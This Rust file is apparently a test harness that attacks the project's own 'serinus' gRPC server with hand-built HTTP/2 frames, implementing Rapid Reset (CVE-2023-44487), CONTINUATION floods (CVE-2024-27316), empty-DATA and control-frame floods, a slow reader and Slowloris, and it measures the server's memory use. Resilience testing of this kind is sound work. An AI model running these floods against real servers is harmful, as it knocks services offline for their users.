//! Callers that mean harm: calls with any identity as bare HTTP/2, and frames that no library would send.

use anyhow::{Context as _, Result, bail};
use http_body_util::{BodyExt as _, Full};
use hyper::body::Bytes;
use hyper::client::conn::http2::{SendRequest, handshake};
use hyper_util::rt::{TokioExecutor, TokioIo};
use prost::Message as _;
use prost_types::FileDescriptorSet;
use serinus_runtime::tls::{Dial, Offer};
use std::time::Duration;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::time::{Instant, timeout};

/// How long an answer's head may take.
const LIMIT: Duration = Duration::from_secs(20);

/// Full names of every call of the contract: `serinus.v1.Rollouts/Apply`.
///
/// # Errors
/// If the descriptors cannot be read.
pub fn methods() -> Result<Vec<String>> {
    let set = FileDescriptorSet::decode(serinus_proto::FILE_DESCRIPTOR_SET)?;
    let mut names = Vec::new();
    for file in &set.file {
        for service in &file.service {
            for method in &service.method {
                let (package, service) = (file.package(), service.name());
                names.push(format!("{package}.{service}/{}", method.name()));
            }
        }
    }
    Ok(names)
}

/// A connection on which anything can be asked.
#[derive(Debug)]
pub struct Bare {
    requests: SendRequest<Full<Bytes>>,
    host: String,
}

/// How a call ended: the code and the message of gRPC; none where its head was that of an answer.
pub type Ended = Option<(u32, String)>;

impl Bare {
    /// Connects with TLS as `dial` does, or without.
    ///
    /// # Errors
    /// If there is no connection.
    pub async fn connect(address: &str, dial: Option<&Dial>) -> Result<Self> {
        let stream = TcpStream::connect(address).await?;
        let requests = match dial {
            None => begin(TokioIo::new(stream)).await?,
            Some(dial) => {
                let (stream, _) = dial.connect("localhost", stream, Offer::Http2).await?;
                begin(TokioIo::new(stream)).await?
            }
        };
        let host = address.to_owned();
        Ok(Self { requests, host })
    }

    /// Makes a call with a body as it is, and reads the head of the answer.
    ///
    /// # Errors
    /// If there is none, or the connection breaks.
    pub async fn call(
        &mut self,
        method: &str,
        token: Option<&str>,
        body: impl Into<Bytes>,
    ) -> Result<Ended> {
        let mut request = hyper::Request::post(format!("http://{}/{method}", self.host))
            .header("content-type", "application/grpc")
            .header("te", "trailers");
        if let Some(token) = token {
            request = request.header("authorization", format!("Bearer {token}"));
        }
        let request = request.body(Full::new(body.into()))?;
        self.requests.ready().await?;
        let answer = timeout(LIMIT, self.requests.send_request(request));
        let answer = answer.await.context("no answer in time")??;
        let head = answer.headers();
        if let Some(ended) = ended(head) {
            return Ok(Some(ended));
        }
        // What is refused while it is read has its code behind the (empty) body; streams go on.
        let mut body = answer.into_body();
        match timeout(Duration::from_millis(50), body.frame()).await {
            Ok(Some(Ok(frame))) => Ok(frame.trailers_ref().and_then(ended)),
            _ => Ok(None),
        }
    }
}

async fn begin<T>(io: TokioIo<T>) -> Result<SendRequest<Full<Bytes>>>
where
    TokioIo<T>: hyper::rt::Read + hyper::rt::Write + Unpin + Send + 'static,
{
    let (requests, connection) = handshake(TokioExecutor::new(), io).await?;
    tokio::spawn(async move {
        // How it ends is seen by who asks.
        let _ = connection.await;
    });
    Ok(requests)
}

fn ended(headers: &http::HeaderMap) -> Option<(u32, String)> {
    let text = |name: &str| headers.get(name).and_then(|value| value.to_str().ok());
    let code = text("grpc-status")?.parse().ok()?;
    Some((code, text("grpc-message").unwrap_or_default().to_owned()))
}

/// A message of gRPC around these bytes.
#[must_use]
pub fn framed(message: &[u8]) -> Vec<u8> {
    let length = u32::try_from(message.len()).unwrap_or(u32::MAX);
    let mut bytes = vec![0];
    bytes.extend_from_slice(&length.to_be_bytes());
    bytes.extend_from_slice(message);
    bytes
}

/// What one connection does until it is closed or the time is over.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Flood {
    /// Calls that are cancelled as soon as they are made (CVE-2023-44487).
    RapidReset,
    /// A head that never ends (CVE-2024-27316).
    Continuation,
    /// A body without a byte that never ends.
    EmptyData,
    /// Settings and pings that want to be answered.
    Control,
    /// Calls whose answers nobody takes.
    SlowReader,
    /// Nothing.
    Silent,
    /// A head of HTTP/1.1, a byte at a time.
    Slowloris,
}

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
/// Frames that are written at once.
const BURST: usize = 200;
/// Frames after which a slow reader only waits: its calls are answered as fast as anybody's, and it is the answers that
/// nobody takes.
const BURST_READ: u64 = 20;

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
    let mut bytes = vec![length[1], length[2], length[3], kind, flags];
    bytes.extend_from_slice(&stream.to_be_bytes());
    bytes.extend_from_slice(payload);
    bytes
}

/// The head of a call, without compression: literals that are not indexed (RFC 7541, section 6.2.2).
fn head(method: &str) -> Vec<u8> {
    let path = format!("/{method}");
    let fields = [
        (":method", "POST"),
        (":scheme", "http"),
        (":authority", "localhost"),
        (":path", path.as_str()),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ];
    let mut bytes = Vec::new();
    for (name, value) in fields {
        bytes.push(0);
        for text in [name, value] {
            // All of them are shorter than 127 bytes.
            bytes.push(u8::try_from(text.len()).unwrap_or(0));
            bytes.extend_from_slice(text.as_bytes());
        }
    }
    bytes
}

impl Flood {
    /// Does it once, on a connection of its own; how many frames, or bytes where there are no frames, were sent.
    ///
    /// # Errors
    /// If there is no connection.
    pub async fn attack(self, address: &str, until: Instant) -> Result<u64> {
        let mut stream = TcpStream::connect(address).await?;
        if matches!(self, Self::Silent | Self::Slowloris) {
            return self.linger(&mut stream, until).await;
        }
        let window: &[u8] = match self {
            // SETTINGS_INITIAL_WINDOW_SIZE = 0.
            Self::SlowReader => &[0, 4, 0, 0, 0, 0],
            _ => &[],
        };
        let mut first = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
        first.extend(frame(SETTINGS, 0, 0, window));
        first.extend(self.opening());
        stream.write_all(&first).await?;
        let (mut reading, mut writing) = stream.into_split();
        // What comes back must not stop the attack; a slow reader takes nothing.
        let reader = tokio::spawn(async move {
            let mut buffer = vec![0; 64 * 1024];
            while self != Self::SlowReader
                && !matches!(reading.read(&mut buffer).await, Ok(0) | Err(_))
            {}
            reading
        });
        let mut sent = 0;
        let mut stream_id = 3;
        while Instant::now() < until {
            let (bytes, frames) = self.burst(&mut stream_id);
            let Ok(Ok(())) = timeout(Duration::from_secs(1), writing.write_all(&bytes)).await
            else {
                break;
            };
            sent += frames;
            if self == Self::SlowReader && sent >= BURST_READ {
                tokio::time::sleep_until(until).await;
            }
        }
        reader.abort();
        Ok(sent)
    }

    fn opening(self) -> Vec<u8> {
        let head = head("serinus.v1.Rollouts/List");
        match self {
            Self::Continuation => frame(HEADERS, 0, 1, &head),
            Self::EmptyData => frame(HEADERS, END_HEADERS, 1, &head),
            _ => Vec::new(),
        }
    }

    /// Some more of it.
    fn burst(self, stream_id: &mut u32) -> (Vec<u8>, u64) {
        let mut bytes = Vec::new();
        let mut frames = 0;
        let times = match self {
            Self::SlowReader => 10,
            _ => BURST,
        };
        for _ in 0..times {
            match self {
                Self::RapidReset => {
                    let head = head("serinus.v1.Rollouts/List");
                    bytes.extend(frame(HEADERS, END_HEADERS, *stream_id, &head));
                    bytes.extend(frame(RST_STREAM, 0, *stream_id, &8u32.to_be_bytes()));
                    *stream_id += 2;
                    frames += 2;
                }
                // Each a field that is as large as may be.
                Self::Continuation => {
                    let mut field = vec![0, 1, b'x', 127, 0xe1, 0x1e];
                    field.extend([b'y'; 4000]);
                    bytes.extend(frame(CONTINUATION, 0, 1, &field));
                    frames += 1;
                }
                Self::EmptyData => {
                    bytes.extend(frame(DATA, 0, 1, &[]));
                    frames += 1;
                }
                Self::Control => {
                    bytes.extend(frame(SETTINGS, 0, 0, &[]));
                    bytes.extend(frame(PING, 0, 0, &[7; 8]));
                    frames += 2;
                }
                _ => {
                    let head = head("serinus.v1.Rollouts/List");
                    bytes.extend(frame(HEADERS, END_HEADERS, *stream_id, &head));
                    bytes.extend(frame(DATA, END_STREAM, *stream_id, &framed(&[])));
                    *stream_id += 2;
                    frames += 2;
                }
            }
        }
        (bytes, frames)
    }

    async fn linger(self, stream: &mut TcpStream, until: Instant) -> Result<u64> {
        let mut sent = 0;
        let mut byte = [0];
        if self == Self::Slowloris {
            stream
                .write_all(b"GET /metrics HTTP/1.1\r\nhost: x\r\nx-slow: ")
                .await?;
        }
        while Instant::now() < until {
            tokio::select! {
                read = stream.read(&mut byte) => match read {
                    Ok(0) | Err(_) => break,
                    Ok(_) => {}
                },
                () = tokio::time::sleep(Duration::from_millis(200)) => {
                    if self == Self::Slowloris && stream.write_all(b"a").await.is_ok() {
                        sent += 1;
                    }
                }
            }
        }
        Ok(sent)
    }
}

/// Memory of a process that is not on disk, bytes.
///
/// # Errors
/// If there is no such process.
pub fn resident(process: u32) -> Result<u64> {
    let status = std::fs::read_to_string(format!("/proc/{process}/status"))?;
    for line in status.lines() {
        if let Some(rest) = line.strip_prefix("VmRSS:") {
            let kib = rest.trim().trim_end_matches(" kB").trim();
            return Ok(kib.parse::<u64>()? * 1024);
        }
    }
    bail!("no VmRSS of process {process}")
}
